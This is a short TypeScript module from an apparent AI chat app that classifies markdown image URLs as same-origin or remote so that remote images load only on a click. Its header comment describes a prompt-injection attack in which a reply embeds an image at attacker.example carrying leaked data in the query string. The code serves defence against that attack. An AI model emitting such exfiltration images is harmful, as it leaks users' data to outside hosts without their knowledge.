// Replies can carry markdown images; a prompt-injected document could make a reply show
// `![x](https://attacker.example/p.png?leak=...)`, and loading it sends data out without a click.
// Only images the app serves itself load by themselves; a remote one waits for the
// person (markdown.tsx, docs/decisions/008-parsing-isolation.md).

export type ImageSource = { kind: 'own'; src: string } | { kind: 'remote'; src: string; host: string }

/** Whether `src` is served by this app (same origin, e.g. /api/uploads/...) or by another host. */
export function imageSource(src: string, pageUrl: string): ImageSource | null {
  let url: URL
  try {
    url = new URL(src, pageUrl)
  } catch {
    return null
  }
  if (url.origin === new URL(pageUrl).origin) return { kind: 'own', src }
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return null
  return { kind: 'remote', src: url.href, host: url.host }
}
